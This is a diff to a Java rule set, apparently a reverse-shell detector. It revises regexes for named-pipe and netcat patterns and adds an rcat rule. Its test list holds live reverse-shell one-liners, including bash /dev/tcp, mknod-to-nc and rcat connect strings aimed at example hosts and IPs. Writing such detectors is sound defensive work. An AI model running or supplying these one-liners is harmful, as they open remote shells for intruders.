@@ -47,9 +47,7 @@ final class ReverseShellRules {
                       + " (?:[^\\n;|&\\x00]*\\s)?(?:-[a-z]{0,5}[ec]|--(?:sh-)?exec)[\\s=]*\\\\?[\"']?"
                       + "(?:/[a-z/]+/)?(?:(?:ba|z|da|k|a)?sh|cmd(?:\\.exe)?|powershell(?:\\.exe)?)\\b")
               .finds(
-                  "\\bmk(?:fifo|nod)\\s"
-                      + LINE
-                      + "\\|\\s*(?:busybox\\s+)?(?:nc|ncat|netcat|telnet|openssl)\\s")
+                  "\\bmk(?:fifo|nod)\\s[^\\n\\x00]*\\|\\s*(?:busybox\\s+)?(?:nc|ncat|netcat|telnet|openssl)\\s")
               .finds(
                   NETCAT
                       + " [^\\n;|&\\x00]*[0-9]\\s*\\|\\s*"
@@ -99,8 +97,11 @@ final class ReverseShellRules {
               .finds("\\bnew\\s+Socket\\([^\\x00]*(?:ProcessBuilder|getRuntime\\(\\)\\.exec)\\b")
               .finds("\\bzsh/net/tcp\\b[^\\x00]*\\bztcp\\s")
               .finds("\\bxterm\\s+-display\\s+[0-9a-zA-Z.-]+:[0-9]")
+              .finds("\\brcat\\s+(?:connect|c)\\s[^\\n]*-s\\s")
               .finds("\\bssh\\s[^\\n]*-R\\s*[0-9]+:(?:localhost|127\\.0\\.0\\.1):22\\b")
               .matches(
+                  "mknod /tmp/b p; sh 0</tmp/b | nc h.example 53 1>/tmp/b",
+                  "rcat connect -s bash 1.2.3.4 6666",
                   "bash -i >& /dev/tcp/41.166.79.87/9001 0>&1",
                   "bash -i &gt;&amp; /dev/tcp/41.166.79.87/9001 0&gt;&amp;1",
                   "sh -i 5<> /dev/tcp/h.example/4444 0<&5 1>&5 2>&5",
